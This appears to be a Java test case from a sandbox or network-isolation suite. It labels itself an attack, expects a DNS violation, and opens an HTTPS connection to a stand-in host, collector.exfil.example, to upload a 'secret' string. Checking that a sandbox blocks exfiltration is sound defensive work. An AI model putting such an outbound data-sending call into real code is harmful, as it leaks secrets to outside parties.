// attack: post a secret over HTTPS to a host name
// expect: VIOLATION DNS
// stopped-by: no resolver and no network: the name cannot even be looked up
import java.net.URL;
import javax.net.ssl.HttpsURLConnection;
public class HttpsExfil {
  public static void main(String[] args) throws Exception {
    HttpsURLConnection c = (HttpsURLConnection) new URL("https://collector.exfil.example/upload").openConnection();
    c.setConnectTimeout(3000);
    c.setDoOutput(true);
    c.getOutputStream().write("secret".getBytes());
    System.exit(42);
  }
}
